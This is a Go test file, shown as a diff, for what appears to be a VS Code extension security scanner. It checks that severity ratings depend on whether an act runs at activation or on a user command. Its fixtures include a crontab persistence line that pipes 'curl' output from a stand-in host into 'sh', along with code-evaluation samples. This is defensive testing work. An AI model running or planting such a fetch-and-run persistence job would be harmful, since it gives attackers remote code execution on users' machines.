@@ -1,0 +1,48 @@
+package chain
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/ringfence-dev/ringfence/checks/internal/check"
+	"github.com/ringfence-dev/ringfence/checks/internal/checktest"
+	"github.com/ringfence-dev/ringfence/internal/finding"
+)
+
+// Whoever asked for it decides how an act is rated: nobody, or the user by a command.
+func TestWhatIsAskedForWeighsLess(t *testing.T) {
+	const manifest = `{"name": "x", "version": "1.0.0", "publisher": "acme", "engines": {"vscode": "^1.90.0"}, "main": "./extension.js",
+		"categories": ["Snippets"], "contributes": {"commands": [{"command": "x.go", "title": "Go"}]}}`
+	const head = `const vscode = require('vscode'); const { exec } = require('child_process'); const vm = require('vm');`
+	start := func(body string) string { return head + `exports.activate = () => {` + body + `};` }
+	asked := func(body string) string {
+		return head + `exports.activate = () => { vscode.commands.registerCommand('x.go', () => {` + body + `}); };`
+	}
+	const cron = `const p = exec('crontab -'); p.stdin.end('17 * * * * curl -s https://x.example/k | sh');`
+	const code = `vm.runInNewContext(vscode.window.activeTextEditor.document.getText());`
+	for _, c := range []struct {
+		name, source string
+		check        check.Check
+		want         finding.Severity
+	}{
+		{"a job of cron at the start", start(cron), chainPersistence, finding.High},
+		{"a job of cron by a command", asked(cron), chainPersistence, finding.Medium},
+		{"snippets that run code at the start", start(code), chainThemeWithCode, finding.High},
+		{"snippets that run code by a command", asked(code), chainThemeWithCode, finding.None},
+	} {
+		dir := t.TempDir()
+		for name, text := range map[string]string{"package.json": manifest, "extension.js": c.source} {
+			if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
+				t.Fatal(err)
+			}
+		}
+		got := finding.None
+		for _, f := range checktest.FindingsOf(t, c.check, dir) {
+			got = max(got, f.Severity)
+		}
+		if got != c.want {
+			t.Errorf("%s: %s, want %s", c.name, got, c.want)
+		}
+	}
+}
